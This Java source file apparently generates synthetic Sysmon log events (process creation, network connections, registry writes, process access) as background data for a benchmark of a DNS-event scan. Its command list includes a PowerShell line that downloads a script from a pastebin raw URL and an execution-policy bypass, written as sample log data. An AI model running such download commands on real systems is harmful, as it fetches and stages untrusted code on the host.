package io.sysmonflink.benchmarks;

import java.util.List;

/** Events of other ids than 22, which a scan has to pass by. Some name an abused service too. */
final class OtherEvents {
  private static final List<String> COMMANDS =
      List.of(
          " -k netsvcs -p -s Schedule",
          " /c dir \"C:\\Users\\%u\\Documents\" > C:\\Windows\\Temp\\list.txt 2>&1",
          " -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
          " --type=renderer --display-capture-permissions-policy-allowed --lang=en-US"
              + " --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation"
              + " --renderer-client-id=117 --launch-time-ticks=30562137110 --mojo-platform-channel-handle=9096"
              + " --field-trial-handle=1964,i,1124,262144 /prefetch:1",
          " -ServerName:App.AppXrt5bb0vvqfh7hbsnb6xqagvhbncvp0dn.mca",
          " -Command \"Invoke-WebRequest https://pastebin.com/raw/aB3dE5fG -OutFile x.ps1\"",
          "");
  private static final List<String> FILES =
      List.of(
          "C:\\Users\\%u\\AppData\\Local\\Temp\\__PSScriptPolicyTest_x1y2z3.ps1",
          "C:\\Users\\%u\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\report.lnk",
          "C:\\Windows\\Prefetch\\CHROME.EXE-5FE9909D.pf",
          "C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WERA1B2.tmp.xml",
          "C:\\Users\\%u\\AppData\\Local\\Discord\\Update.log");
  private static final List<String> KEYS =
      List.of(
          "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1001",
          "HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Discord",
          "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater\\Id",
          "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\DhcpNameServer");
  private static final List<String> DESTINATIONS =
      List.of("dc01.corp.example.com", "-", "-", "cdn.discordapp.com", "proxy.corp.example.com");
  private static final List<String> ACCESS = List.of("0x1000", "0x1400", "0x101001", "0x1fffff");

  private final Dice dice;

  OtherEvents(Dice dice) {
    this.dice = dice;
  }

  /** The values of a type's fields, on this host, at this time of Sysmon's own. */
  List<String> values(EventType type, Host host, String utcTime) {
    Program program = dice.pick(Program.RUNNING);
    String image = host.path(program.path());
    String guid = host.processGuid(dice);
    String process = Integer.toString(dice.between(300, 16_000));
    return switch (type) {
      case PROCESS_CREATE -> processCreate(host, utcTime, guid, process, program, image);
      case NETWORK_CONNECT -> networkConnect(host, utcTime, guid, process, image);
      case IMAGE_LOAD -> imageLoad(host, utcTime, guid, process, image);
      case PROCESS_ACCESS -> processAccess(host, utcTime, guid, process, image);
      case FILE_CREATE ->
          List.of(
              "-",
              utcTime,
              guid,
              process,
              image,
              host.path(dice.pick(FILES)),
              utcTime,
              host.account());
      case REGISTRY_VALUE_SET ->
          List.of(
              "-",
              "SetValue",
              utcTime,
              guid,
              process,
              image,
              dice.pick(KEYS),
              "Binary Data",
              host.account());
      case DNS_QUERY -> throw new IllegalArgumentException("DnsQueries makes these");
    };
  }

  private List<String> processCreate(
      Host host, String utcTime, String guid, String process, Program program, String image) {
    Program parent = dice.pick(Program.RUNNING);
    String logon = dice.hex(6);
    return List.of(
        "-",
        utcTime,
        guid,
        process,
        image,
        program.version(),
        program.description(),
        program.product(),
        program.company(),
        program.fileName(),
        '"' + image + '"' + host.path(dice.pick(COMMANDS)),
        "C:\\Windows\\system32\\",
        host.account(),
        host.guidStart() + "31C2-673A-5BC4-" + logon + "000000}",
        "0x" + logon,
        "1",
        dice.inTenThousand(7_000) ? "Medium" : "System",
        program.hashes(),
        host.processGuid(dice),
        Integer.toString(dice.between(300, 16_000)),
        host.path(parent.path()),
        '"' + host.path(parent.path()) + '"' + host.path(dice.pick(COMMANDS)),
        host.account());
  }

  private List<String> networkConnect(
      Host host, String utcTime, String guid, String process, String image) {
    return List.of(
        "-",
        utcTime,
        guid,
        process,
        image,
        host.account(),
        "tcp",
        "true",
        "false",
        "192.0.2." + host.number() % 250,
        host.computer(),
        Integer.toString(dice.between(49_152, 65_536)),
        "-",
        "false",
        "198.51." + dice.below(256) + "." + dice.below(256),
        dice.pick(DESTINATIONS),
        dice.inTenThousand(8_000) ? "443" : "389",
        "https");
  }

  private List<String> imageLoad(
      Host host, String utcTime, String guid, String process, String image) {
    Program library = dice.pick(Program.LIBRARIES);
    return List.of(
        "-",
        utcTime,
        guid,
        process,
        image,
        library.path(),
        library.version(),
        library.description(),
        library.product(),
        library.company(),
        library.fileName(),
        library.hashes(),
        "true",
        "Microsoft Windows",
        "Valid",
        host.account());
  }

  private List<String> processAccess(
      Host host, String utcTime, String guid, String process, String image) {
    StringBuilder trace = new StringBuilder();
    for (int i = dice.between(4, 14); i > 0; i--) {
      trace.append(dice.pick(Program.LIBRARIES).path()).append('+').append(dice.hex(5)).append('|');
    }
    trace.append("UNKNOWN(00000").append(dice.hex(11)).append(')');
    return List.of(
        "-",
        utcTime,
        guid,
        process,
        Integer.toString(dice.between(300, 16_000)),
        image,
        host.processGuid(dice),
        Integer.toString(dice.between(300, 16_000)),
        host.path(dice.pick(Program.RUNNING).path()),
        dice.pick(ACCESS),
        trace.toString(),
        host.account(),
        "NT AUTHORITY\\SYSTEM");
  }
}
